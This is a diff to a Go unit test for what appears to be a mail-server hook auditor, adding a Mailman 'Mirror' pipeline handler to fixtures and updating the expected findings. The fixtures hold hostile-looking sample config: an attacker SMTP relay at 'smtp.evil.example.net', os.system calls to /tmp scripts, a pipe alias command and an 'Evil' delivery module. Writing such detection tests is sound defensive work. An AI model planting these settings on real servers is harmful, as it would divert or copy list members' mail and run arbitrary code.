@@ -89,10 +89,10 @@ func TestHooks(t *testing.T) {
 		{"web pages", map[string]string{"/etc/mailman3/mailman-web.py": "SECRET_KEY = 'geheim'\nEMAIL_HOST = 'smtp.evil.example.net'\n", cfg: "[mailman]\n"},
 			"script settings.py:1 /etc/mailman3/mailman-web.py | all mail of lists\nrelay EMAIL_HOST:2 smtp.evil.example.net remote | all mail of lists\n"},
 		{"mailman 2", map[string]string{
-			"/etc/mailman/mm_cfg.py": "from Defaults import *\nSMTPHOST = 'smtp.evil.example.net'\nPOSTFIX_ALIAS_CMD = '/tmp/x'\nMTA='Postfix'\nDELIVERY_MODULE = 'Evil'\nimport os\nos.system('/tmp/y')\n", "/var/lib/mailman/lists/l/extend.py": "import os\nos.system('/tmp/z')\n",
+			"/etc/mailman/mm_cfg.py": "from Defaults import *\nSMTPHOST = 'smtp.evil.example.net'\nPOSTFIX_ALIAS_CMD = '/tmp/x'\nMTA='Postfix'\nGLOBAL_PIPELINE[3:3] = ['Moderate', 'Mirror']\nDELIVERY_MODULE = 'Evil'\nimport os\nos.system('/tmp/y')\n", "/var/lib/mailman/lists/l/extend.py": "import os\nos.system('/tmp/z')\n",
 			"/var/lib/mailman/lists/l/config.pck": "geheim"},
-			"script mm_cfg.py:1 /etc/mailman/mm_cfg.py | all mail of lists\nexpansion_exec mm_cfg.py:7 /tmp/y | all mail of lists\npipe POSTFIX_ALIAS_CMD:3 /tmp/x | all mail of lists\nrelay SMTPHOST:2 smtp.evil.example.net remote | all mail of lists\n" +
-				"plugin DELIVERY_MODULE:5 Evil | all mail of lists\nplugin extend.py:0 /var/lib/mailman/lists/l/extend.py | list l\nscript extend.py:1 /var/lib/mailman/lists/l/extend.py | list l\nexpansion_exec extend.py:2 /tmp/z | list l\n"},
+			"script mm_cfg.py:1 /etc/mailman/mm_cfg.py | all mail of lists\nexpansion_exec mm_cfg.py:8 /tmp/y | all mail of lists\npipe POSTFIX_ALIAS_CMD:3 /tmp/x | all mail of lists\nrelay SMTPHOST:2 smtp.evil.example.net remote | all mail of lists\n" +
+				"plugin DELIVERY_MODULE:6 Evil | all mail of lists\nplugin GLOBAL_PIPELINE:5 Mailman.Handlers.Mirror | all mail of lists\nplugin extend.py:0 /var/lib/mailman/lists/l/extend.py | list l\nscript extend.py:1 /var/lib/mailman/lists/l/extend.py | list l\nexpansion_exec extend.py:2 /tmp/z | list l\n"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := read(tc.files)
